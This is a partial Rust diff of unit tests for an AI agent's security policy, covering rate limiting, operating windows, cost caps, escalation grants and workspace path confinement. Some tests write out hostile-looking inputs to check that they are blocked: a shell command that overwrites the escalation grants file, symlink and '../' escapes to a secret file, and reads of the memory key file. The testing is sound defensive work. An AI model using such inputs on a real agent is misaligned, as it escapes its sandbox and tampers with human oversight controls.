+        assert!(p.record_llm_usage(u64::MAX, 1e9).is_none());
+        assert!(p.can_act());
+
         let p = SecurityPolicy {
-            workspace_dir: workspace.clone(),
+            max_cost_usd_per_day: 1.0,
             ..SecurityPolicy::default()
         };
-        assert_eq!(
-            p.resolve_user_supplied_path("src/main.rs"),
-            workspace.join("src/main.rs")
-        );
+        let copy = p.clone();
+        assert!(p.record_llm_usage(0, 1.5).is_some());
+        assert!(!copy.can_act());
     }
 
-    #[test]
-    fn resolve_user_supplied_path_expands_home_tilde() {
-        let p = default_policy();
-        let expected = std::env::var_os("HOME")
-            .map(PathBuf::from)
-            .unwrap_or_else(|| PathBuf::from("~"))
-            .join("notes/todo.txt");
-        assert_eq!(p.resolve_user_supplied_path("~/notes/todo.txt"), expected);
+    fn window(start: &str, end: &str, days: &[&str]) -> OperatingWindow {
+        OperatingWindow::from_config(&OperatingWindowConfig {
+            start: start.into(),
+            end: end.into(),
+            days: days.iter().map(|d| d.to_string()).collect(),
+            timezone: Some("UTC".into()),
+        })
+        .unwrap()
     }
 
-    // ── from_config ─────────────────────────────────────────
+    fn utc(s: &str) -> DateTime<Utc> {
+        DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
+    }
 
     #[test]
-    fn from_config_maps_all_fields() {
-        let autonomy_config = crate::config::AutonomyConfig {
-            level: AutonomyLevel::Full,
-            workspace_only: false,
-            allowed_commands: vec!["docker".into()],
-            forbidden_paths: vec!["/secret".into()],
-            max_actions_per_hour: 100,
-            max_cost_per_day_cents: 1000,
-            require_approval_for_medium_risk: false,
-            block_high_risk_commands: false,
-            shell_env_passthrough: vec!["DATABASE_URL".into()],
-            allow_sensitive_file_reads: true,
-            allow_sensitive_file_writes: true,
-            ..crate::config::AutonomyConfig::default()
-        };
-        let workspace = PathBuf::from("/tmp/test-workspace");
-        let policy = SecurityPolicy::from_config(&autonomy_config, &workspace);
-
-        assert_eq!(policy.autonomy, AutonomyLevel::Full);
-        assert!(!policy.workspace_only);
-        assert_eq!(policy.allowed_commands, vec!["docker"]);
-        assert_eq!(policy.forbidden_paths, vec!["/secret"]);
-        assert_eq!(policy.max_actions_per_hour, 100);
-        assert_eq!(policy.max_cost_per_day_cents, 1000);
-        assert!(!policy.require_approval_for_medium_risk);
-        assert!(!policy.block_high_risk_commands);
-        assert_eq!(policy.shell_env_passthrough, vec!["DATABASE_URL"]);
-        assert!(policy.allow_sensitive_file_reads);
-        assert!(policy.allow_sensitive_file_writes);
-        assert_eq!(policy.workspace_dir, PathBuf::from("/tmp/test-workspace"));
+    fn operating_window_matches_hours_and_days() {
+        let office = window("09:00", "18:00", &["mon", "tue", "wed", "thu", "fri"]);
+        // 2026-03-02 is a Monday.
+        assert!(office.contains(utc("2026-03-02T09:00:00Z")));
+        assert!(!office.contains(utc("2026-03-02T18:00:00Z")));
+        assert!(!office.contains(utc("2026-03-02T08:59:00Z")));
+        assert!(!office.contains(utc("2026-03-07T12:00:00Z")));
+        assert_eq!(office.to_string(), "09:00-18:00 Mon,Tue,Wed,Thu,Fri UTC");
+
+        // Overnight windows belong to the day they open on.
+        let night = window("22:00", "06:00", &["fri"]);
+        assert!(night.contains(utc("2026-03-06T23:00:00Z")));
+        assert!(night.contains(utc("2026-03-07T05:59:00Z")));
+        assert!(!night.contains(utc("2026-03-06T05:00:00Z")));
     }
 
     #[test]
-    fn from_config_normalizes_allowed_roots() {
-        let autonomy_config = crate::config::AutonomyConfig {
-            allowed_roots: vec!["~/Desktop".into(), "shared-data".into()],
-            ..crate::config::AutonomyConfig::default()
-        };
-        let workspace = PathBuf::from("/tmp/test-workspace");
-        let policy = SecurityPolicy::from_config(&autonomy_config, &workspace);
-
-        let expected_home_root = if let Some(home) = std::env::var_os("HOME") {
-            PathBuf::from(home).join("Desktop")
-        } else {
-            PathBuf::from("~/Desktop")
+    fn operating_window_rejects_bad_config() {
+        let config = |start: &str, day: &str, tz: &str| OperatingWindowConfig {
+            start: start.into(),
+            end: "18:00".into(),
+            days: vec![day.into()],
+            timezone: Some(tz.into()),
         };
-
-        assert_eq!(policy.allowed_roots[0], expected_home_root);
-        assert_eq!(policy.allowed_roots[1], workspace.join("shared-data"));
+        assert!(OperatingWindow::from_config(&config("9am", "mon", "UTC")).is_err());
+        assert!(OperatingWindow::from_config(&config("18:00", "mon", "UTC")).is_err());
+        assert!(OperatingWindow::from_config(&config("09:00", "someday", "UTC")).is_err());
+        assert!(OperatingWindow::from_config(&config("09:00", "mon", "Mars/Base")).is_err());
     }
 
     #[test]
-    fn from_config_maps_command_rule_require_approval_action() {
-        let autonomy_config = crate::config::AutonomyConfig {
-            command_context_rules: vec![crate::config::CommandContextRuleConfig {
-                command: "rm".into(),
-                action: crate::config::CommandContextRuleAction::RequireApproval,
-                allowed_domains: vec![],
-                allowed_path_prefixes: vec![],
-                denied_path_prefixes: vec![],
-                allow_high_risk: false,
-            }],
-            ..crate::config::AutonomyConfig::default()
+    fn act_outside_operating_window_is_denied() {
+        let closed = SecurityPolicy {
+            autonomy: AutonomyLevel::Full,
+            operating_window: Some(OperatingWindow {
+                days: Vec::new(),
+                ..window("09:00", "18:00", &[])
+            }),
+            ..SecurityPolicy::default()
         };
-        let workspace = PathBuf::from("/tmp/test-workspace");
-        let policy = SecurityPolicy::from_config(&autonomy_config, &workspace);
-
-        assert_eq!(policy.command_context_rules.len(), 1);
-        assert!(matches!(
-            policy.command_context_rules[0].action,
-            CommandContextRuleAction::RequireApproval
-        ));
+        assert!(!closed.can_act());
+        let err = closed
+            .enforce_tool_operation(ToolOperation::Act, "shell")
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("outside operating window"));
+        assert!(closed
+            .enforce_tool_operation(ToolOperation::Read, "file_read")
+            .is_ok());
     }
 
     #[test]
-    fn resolved_path_violation_message_includes_allowed_roots_guidance() {
-        let p = default_policy();
-        let msg = p.resolved_path_violation_message(Path::new("/tmp/outside.txt"));
-        assert!(msg.contains("escapes workspace"));
-        assert!(msg.contains("allowed_roots"));
+    fn persistent_action_bucket_survives_restart() {
+        let tmp = tempfile::tempdir().unwrap();
+        let path = tmp.path().join("state").join(RATE_LIMIT_STATE_FILE);
+
+        let bucket = ActionBucket::persistent(path.clone());
+        assert_eq!(bucket.take(10, 0), Ok(9));
+        assert_eq!(bucket.take(10, 0), Ok(8));
+        drop(bucket);
+
+        let restarted = ActionBucket::persistent(path.clone());
+        assert_eq!(restarted.remaining(10, 0), 8);
+        // A missing file never refills the bucket, and every take writes
+        // the new level back.
+        std::fs::remove_file(&path).unwrap();
+        assert_eq!(restarted.remaining(10, 0), 8);
+        assert!(!path.exists());
+        assert_eq!(restarted.take(10, 0), Ok(7));
+        assert_eq!(ActionBucket::persistent(path.clone()).remaining(10, 0), 7);
+
+        // A level from a clock that has since been set back is capped at
+        // one full refill; a past or unreadable level is a full bucket.
+        let now_ms = unix_millis(SystemTime::now());
+        let far_future = now_ms + 10 * 3600 * 1000;
+        std::fs::write(&path, format!(r#"{{"full_at_ms":{far_future}}}"#)).unwrap();
+        let skewed = ActionBucket::persistent(path.clone());
+        assert_eq!(skewed.remaining(10, 0), 0);
+        assert_eq!(skewed.take(10, 0), Err(Some(Duration::from_secs(360))));
+        std::fs::write(&path, r#"{"actions":[1,2,3]}"#).unwrap();
+        assert_eq!(ActionBucket::persistent(path).remaining(10, 0), 10);
     }
 
-    // ── Default policy ──────────────────────────────────────
-
     #[test]
-    fn default_policy_has_sane_values() {
-        let p = SecurityPolicy::default();
-        assert_eq!(p.autonomy, AutonomyLevel::Supervised);
-        assert!(p.workspace_only);
-        assert!(!p.allowed_commands.is_empty());
-        assert!(!p.forbidden_paths.is_empty());
-        assert!(p.max_actions_per_hour > 0);
-        assert!(p.max_cost_per_day_cents > 0);
-        assert!(p.require_approval_for_medium_risk);
-        assert!(p.block_high_risk_commands);
-        assert!(p.shell_env_passthrough.is_empty());
-    }
+    fn persistent_action_buckets_sharing_a_file_draw_on_one_level() {
+        let tmp = tempfile::tempdir().unwrap();
+        let path = tmp.path().join(RATE_LIMIT_STATE_FILE);
 
-    // ── ActionTracker / rate limiting ───────────────────────
+        let first = ActionBucket::persistent(path.clone());
+        let second = ActionBucket::persistent(path.clone());
+        assert_eq!(first.take(10, 0), Ok(9));
+        assert_eq!(second.take(10, 0), Ok(8));
+        assert_eq!(first.remaining(10, 0), 8);
+        assert_eq!(first.take(10, 0), Ok(7));
+        assert_eq!(second.remaining(10, 0), 7);
+    }
 
     #[test]
-    fn action_tracker_starts_at_zero() {
-        let tracker = ActionTracker::new();
-        assert_eq!(tracker.count(), 0);
+    fn root_config_keeps_the_action_bucket_out_of_the_workspace() {
+        let tmp = tempfile::tempdir().unwrap();
+        let config = crate::config::Config {
+            config_path: tmp.path().join("config.toml"),
+            workspace_dir: tmp.path().join("workspace"),
+            ..crate::config::Config::default()
+        };
+        let policy = SecurityPolicy::from_root_config(&config);
+        assert!(policy.record_action());
+
+        let state_dir = tmp.path().join("state");
+        assert_eq!(policy.state_dir.as_deref(), Some(state_dir.as_path()));
+        assert!(state_dir.join(RATE_LIMIT_STATE_FILE).exists());
+        assert!(!config.workspace_dir.join("state").exists());
     }
 
     #[test]
-    fn action_tracker_records_actions() {
-        let tracker = ActionTracker::new();
-        assert_eq!(tracker.record(), 1);
-        assert_eq!(tracker.record(), 2);
-        assert_eq!(tracker.record(), 3);
-        assert_eq!(tracker.count(), 3);
+    fn policy_state_is_refused_to_tools() {
+        let tmp = tempfile::tempdir().unwrap();
+        let state_dir = tmp.path().join("state");
+        let policy = SecurityPolicy {
+            workspace_dir: tmp.path().join("workspace"),
+            workspace_only: false,
+            forbidden_paths: vec![],
+            allowed_roots: vec![tmp.path().to_path_buf()],
+            state_dir: Some(state_dir.clone()),
+            ..SecurityPolicy::default()
+        };
+        let grants = state_dir.join(crate::security::escalation::ESCALATION_STATE_FILE);
+        assert!(!policy.is_path_allowed(&grants.to_string_lossy()));
+        assert!(!policy.is_resolved_path_allowed(&grants));
+        assert!(policy
+            .forbidden_path_argument(&format!("echo [] > {}", grants.display()))
+            .is_some());
+        assert!(policy.is_resolved_path_allowed(&tmp.path().join("notes.md")));
     }
 
     #[test]
-    fn record_action_allows_within_limit() {
-        let p = SecurityPolicy {
-            max_actions_per_hour: 5,
-            ..SecurityPolicy::default()
+    fn memory_key_file_is_refused_to_tools() {
+        let tmp = tempfile::tempdir().unwrap();
+        let key = tmp.path().join("keys/memory.key");
+        let mut config = crate::config::Config {
+            config_path: tmp.path().join("config.toml"),
+            workspace_dir: tmp.path().join("workspace"),
+            ..crate::config::Config::default()
         };
-        for _ in 0..5 {
-            assert!(p.record_action(), "should allow actions within limit");
-        }
+        config.autonomy.workspace_only = false;
+        config.autonomy.forbidden_paths = vec![];
+        config.memory.encrypt_at_rest = true;
+        config.memory.encryption_key_file = Some(key.to_string_lossy().into_owned());
+
+        let policy = SecurityPolicy::from_root_config(&config);
+        assert_eq!(policy.memory_key_file.as_deref(), Some(key.as_path()));
+        assert!(!policy.is_path_allowed(&key.to_string_lossy()));
+        assert!(!policy.is_resolved_path_allowed(&key));
+        assert!(policy.is_resolved_path_allowed(&tmp.path().join("keys/notes.md")));
     }
 
     #[test]
-    fn record_action_blocks_over_limit() {
-        let p = SecurityPolicy {
-            max_actions_per_hour: 3,
+    #[allow(deprecated)]
+    fn deprecated_tracker_counts_spent_actions() {
+        let policy = SecurityPolicy {
+            max_actions_per_hour: 10,
             ..SecurityPolicy::default()
         };
-        assert!(p.record_action()); // 1
-        assert!(p.record_action()); // 2
-        assert!(p.record_action()); // 3
-        assert!(!p.record_action()); // 4 — over limit
+        assert!(policy.record_action());
+        assert!(policy.record_action());
+        assert_eq!(policy.tracker().count(), 2);
     }
 
     #[test]
-    fn is_rate_limited_reflects_count() {
+    fn action_bucket_allows_bursts_then_paces_to_the_rate() {
+        let bucket = ActionBucket::new();
+        // 60 per hour with a burst of 3: three back to back, then one a
+        // minute.
+        for left in [2, 1, 0] {
+            assert_eq!(bucket.take(60, 3), Ok(left));
+        }
+        let Err(Some(wait)) = bucket.take(60, 3) else {
+            panic!("empty bucket should refuse");
+        };
+        assert!(wait > Duration::from_secs(59) && wait <= Duration::from_secs(60));
+        assert_eq!(bucket.remaining(60, 3), 0);
+        // A larger burst after a reload makes room straight away.
+        assert_eq!(bucket.remaining(60, 5), 2);
+        assert_eq!(bucket.take(0, 3), Err(None));
+
         let p = SecurityPolicy {
-            max_actions_per_hour: 2,
+            autonomy: AutonomyLevel::Full,
+            max_actions_per_hour: 60,
+            max_actions_burst: 2,
             ..SecurityPolicy::default()
         };
-        assert!(!p.is_rate_limited());
-        p.record_action();
-        assert!(!p.is_rate_limited());
-        p.record_action();
-        assert!(p.is_rate_limited());
+        assert!(p.record_action());
+        assert!(p.record_action());
+        let err = p
+            .enforce_tool_operation(ToolOperation::Act, "shell")
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("(60 actions per hour); 0 of 2 burst tokens left; retry in "));
     }
 
     #[test]
@@ -2853,10 +5556,67 @@ mod tests {
         };
         let workspace = PathBuf::from("/tmp/test");
         let policy = SecurityPolicy::from_config(&autonomy_config, &workspace);
-        assert_eq!(policy.tracker.count(), 0);
+        assert_eq!(policy.remaining_actions(), 10);
         assert!(!policy.is_rate_limited());
     }
 
+    // ── from_file ──────────────────────────────────────────
+
+    fn write_policy(contents: &str) -> (tempfile::TempDir, PathBuf) {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("policy.toml");
+        std::fs::write(&path, contents).unwrap();
+        (dir, path)
+    }
+
+    #[test]
+    fn from_file_fills_defaults_and_resolves_workspace() {
+        let (dir, path) = write_policy(
+            r#"
+workspace_dir = "agent"
+level = "readonly"
+max_actions_per_hour = 7
+denied_tools = ["shell"]
+persist_rate_limit = false
+"#,
+        );
+        let policy = SecurityPolicy::from_file(&path).unwrap();
+        assert_eq!(policy.autonomy, AutonomyLevel::ReadOnly);
+        assert_eq!(policy.workspace_dir, dir.path().join("agent"));
+        assert_eq!(policy.max_actions_per_hour, 7);
+        assert_eq!(policy.denied_tools, vec!["shell".to_string()]);
+        assert_eq!(
+            policy.allowed_commands,
+            crate::config::AutonomyConfig::default().allowed_commands
+        );
+    }
+
+    #[test]
+    fn from_file_reports_unknown_and_mistyped_keys() {
+        let (_dir, path) = write_policy("workspace_dir = \"/srv\"\nmax_action_per_hour = 5\n");
+        let err = SecurityPolicy::from_file(&path).unwrap_err().to_string();
+        assert!(err.contains("unknown key `max_action_per_hour`"), "{err}");
+
+        let (_dir, path) =
+            write_policy("workspace_dir = \"/srv\"\nmax_actions_per_hour = \"lots\"\n");
+        let err = SecurityPolicy::from_file(&path).unwrap_err().to_string();
+        assert!(err.contains("max_actions_per_hour"), "{err}");
+
+        let (_dir, path) = write_policy("level = \"full\"\n");
+        let err = SecurityPolicy::from_file(&path).unwrap_err().to_string();
+        assert!(err.contains("missing `workspace_dir`"), "{err}");
+    }
+
+    #[test]
+    fn from_file_applies_autonomy_validation() {
+        let (_dir, path) = write_policy("workspace_dir = \"/srv\"\nmax_actions_per_hour = 0\n");
+        let err = format!("{:#}", SecurityPolicy::from_file(&path).unwrap_err());
+        assert!(
+            err.contains("autonomy.max_actions_per_hour must be greater than 0"),
+            "{err}"
+        );
+    }
+
     // ── summary_for_heartbeat ──────────────────────────────
 
     #[test]
@@ -2904,6 +5664,34 @@ mod tests {
         assert!(summary.contains("side-effecting actions are blocked"));
     }
 
+    #[test]
+    fn summary_and_memory_push_follow_escalation_grants() {
+        let tmp = tempfile::tempdir().unwrap();
+        let policy = SecurityPolicy {
+            autonomy: AutonomyLevel::ReadOnly,
+            allow_memory_push: true,
+            state_dir: Some(tmp.path().to_path_buf()),
+            ..SecurityPolicy::default()
+        };
+        assert!(!policy.can_push_memory());
+
+        let store = EscalationStore::new(tmp.path());
+        let request = store
+            .request(
+                super::super::escalation::EscalationKind::Autonomy {
+                    level: AutonomyLevel::Full,
+                },
+                "sync notes",
+                None,
+            )
+            .unwrap();
+        store.grant(&request.id, 30).unwrap();
+        assert!(policy.can_push_memory());
+        assert!(policy
+            .summary_for_heartbeat()
+            .contains("full — autonomous execution"));
+    }
+
     // ══════════════════════════════════════════════════════════
     // SECURITY CHECKLIST TESTS
     // Checklist: gateway not public, pairing required,
@@ -3108,6 +5896,100 @@ mod tests {
         let _ = std::fs::remove_dir_all(&root);
     }
 
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn resolve_in_workspace_follows_symlinks_before_confining() {
+        use std::os::unix::fs::symlink;
+
+        let root = std::env::temp_dir().join("zeroclaw_test_resolve_in_workspace");
+        let workspace = root.join("workspace");
+        let outside = root.join("outside_target");
+
+        let _ = std::fs::remove_dir_all(&root);
+        std::fs::create_dir_all(workspace.join("notes")).unwrap();
+        std::fs::create_dir_all(&outside).unwrap();
+        std::fs::write(workspace.join("notes/todo.md"), "x").unwrap();
+        std::fs::write(outside.join("secret.txt"), "x").unwrap();
+        symlink(&outside, workspace.join("escape_link")).unwrap();
+
+        let policy = SecurityPolicy {
+            workspace_dir: workspace.clone(),
+            ..SecurityPolicy::default()
+        };
+        let canonical_workspace = workspace.canonicalize().unwrap();
+
+        assert_eq!(
+            policy.resolve_in_workspace("notes/todo.md").await.unwrap(),
+            canonical_workspace.join("notes/todo.md")
+        );
+        let err = policy
+            .resolve_in_workspace("escape_link/secret.txt")
+            .await
+            .unwrap_err();
+        assert!(err.contains("escapes workspace"));
+        assert!(policy
+            .resolve_in_workspace("../outside_target/secret.txt")
+            .await
+            .unwrap_err()
+            .contains("not allowed"));
+        assert!(policy
+            .resolve_in_workspace("notes/missing.md")
+            .await
+            .unwrap_err()
+            .contains("Failed to resolve"));
+
+        // Write targets may not exist yet, but their real parent must.
+        assert_eq!(
+            policy
+                .resolve_write_target("drafts/new/plan.md")
+                .await
+                .unwrap(),
+            canonical_workspace.join("drafts/new/plan.md")
+        );
+        assert!(policy
+            .resolve_write_target("escape_link/new/plan.md")
+            .await
+            .unwrap_err()
+            .contains("escapes workspace"));
+        assert!(!workspace.join("drafts").exists());
+
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn path_permissions_longest_prefix_wins_for_writes() {
+        let workspace = tempfile::tempdir().unwrap();
+        let policy = SecurityPolicy {
+            workspace_dir: workspace.path().to_path_buf(),
+            path_permissions: normalize_path_permissions(&HashMap::from([
+                ("ariadne/".to_string(), PathPermission::Read),
+                ("./ai/ariadne".to_string(), PathPermission::ProposeOnly),
+                ("ariadne/memory/".to_string(), PathPermission::Write),
+            ])),
+            ..SecurityPolicy::default()
+        };
+
+        assert!(policy
+            .resolve_write_target("ariadne/memory/notes.md")
+            .await
+            .is_ok());
+        assert!(policy
+            .resolve_write_target("ariadne/config.toml")
+            .await
+            .unwrap_err()
+            .contains("read-only under autonomy.path_permissions"));
+        assert!(policy
+            .resolve_write_target("ai/ariadne/plan.md")
+            .await
+            .unwrap_err()
+            .contains("propose-only"));
+        assert!(policy
+            .resolve_write_target("ai/ariadne2/plan.md")
+            .await
+            .is_ok());
+        assert!(policy.resolve_write_target("notes.md").await.is_ok());
+    }
+
     #[cfg(unix)]
     #[test]
     fn allowed_roots_permits_paths_outside_workspace() {